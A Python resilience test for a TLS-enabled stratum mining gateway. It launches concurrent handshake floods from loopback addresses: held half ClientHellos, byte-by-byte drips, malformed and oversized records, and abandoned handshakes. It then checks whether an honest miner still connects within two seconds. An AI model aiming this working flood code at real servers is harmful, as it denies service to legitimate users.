#!/usr/bin/env python3
"""Floods of TLS handshakes, all at once: half ClientHellos that are held, ClientHellos a byte at a time,
whole ones followed by rubbish instead of the rest of the handshake, records of other types, and whole
handshakes as fast as possible, hung up on before or after their end. Meanwhile an honest miner keeps
connecting over TLS, from an address of its own.

For a gateway with stratum.tls.enabled. The attack has worked if that miner is not answered within two
seconds (p95), or if half handshakes stay for longer than stratum.login_timeout (15 s; seen with --for 20
and more)."""

import os
import ssl
import sys
import threading
import time

import sv1

HONEST = "127.0.2.1"
LOGIN_TIMEOUT = 15


def main():
    # The floods must not keep the miner waiting in this process.
    sys.setswitchinterval(0.0002)
    options = sv1.arguments(__doc__, connections=(300, "that are held half open"), threads=(2, "of each other kind"))
    end = time.time() + options.seconds
    held = hold(options)
    count, waits, lost = {}, [], []
    threads = [threading.Thread(target=flood, args=(options.gateway, kind, end, count))
               for kind in FLOODS for _ in range(options.threads)]
    threads.append(threading.Thread(target=drip, args=(held[::3], end)))
    threads.append(threading.Thread(target=mine, args=(options.gateway, end, waits, lost)))
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    stay = sum(not sv1.has_ended(client) for client in held)
    print(", ".join(f"{count.get(kind, 0) / options.seconds:.0f} {kind}/s" for kind in FLOODS))
    print(f"of {len(held)} half handshakes {stay} are open after {options.seconds:g} s")
    waits.sort()
    p95 = waits[min(len(waits) - 1, int(0.95 * len(waits)))] if waits else float("inf")
    print(f"a miner by TLS was answered {len(waits)} times, p95 {p95 * 1000:.0f} ms; lost: {lost[:3] or 'none'}")
    if p95 > 2 or lost:
        sys.exit("TLS miners are kept out")
    if options.seconds > LOGIN_TIMEOUT + 4 and stay:
        sys.exit("half handshakes stay")


def trusting_anybody():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def client_hello():
    out = ssl.MemoryBIO()
    try:
        CONTEXT.wrap_bio(ssl.MemoryBIO(), out, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def hold(options):
    """Connections that have sent some of a ClientHello: nothing but the first byte, its head, or half."""
    hello, held = client_hello(), []
    for at in range(options.connections):
        try:
            client = sv1.connect(options.gateway, source(at))
            client.sendall(hello[: (1, 9, len(hello) // 2)[at % 3]])
            held.append(client)
        except OSError:
            pass
    return held


def source(at):
    return f"127.0.1.{1 + at % 200}"


def drip(clients, end):
    hello, at = client_hello(), 1
    while time.time() < end and at < len(hello):
        for client in clients:
            try:
                client.sendall(hello[at : at + 1])
            except OSError:
                pass
        at += 1
        time.sleep(0.5)


def rubbish_behind(client):
    """Like a client that renegotiates keys in the middle of the handshake."""
    client.sendall(client_hello() + b"\x16\x03\x03\x40\x00" + os.urandom(0x4000))
    client.recv(4096)


def again_and_again(client):
    """ClientHello after ClientHello."""
    client.sendall(client_hello() * 40)
    client.recv(4096)


def other_records(client):
    """Alerts, key changes, endless records of unknown types."""
    for record in (b"\x15\x03\x03\x00\x02\x01\x00", b"\x14\x03\x03\x00\x01\x01", b"\xff\x03\x03\xff\xff" + bytes(65535)):
        client.sendall(client_hello() + record * 8)
    client.recv(4096)


def half_way(client):
    """The gateway has done its costly part, and the client does not continue."""
    client.sendall(client_hello())
    client.recv(1)


def whole(client):
    CONTEXT.wrap_socket(client, server_hostname="localhost")


CONTEXT = trusting_anybody()
FLOODS = {"rubbish": rubbish_behind, "hellos": again_and_again, "records": other_records, "half-way": half_way,
          "whole": whole}


def flood(gateway, kind, end, count):
    at = 0
    while time.time() < end:
        at += 1
        try:
            client = sv1.connect(gateway, source(at))
            client.settimeout(3)
            with client:
                FLOODS[kind](client)
        except OSError:
            pass
        count[kind] = count.get(kind, 0) + 1


def mine(gateway, end, waits, lost):
    while time.time() < end:
        began = time.time()
        try:
            client = sv1.connect(gateway, HONEST)
            with CONTEXT.wrap_socket(client, server_hostname="localhost") as secured:
                secured.sendall(sv1.line("mining.subscribe", "honest/1"))
                if not secured.recv(1):
                    raise ConnectionError("closed")
            waits.append(time.time() - began)
        except OSError as error:
            lost.append(str(error))
        time.sleep(0.1)


if __name__ == "__main__":
    main()
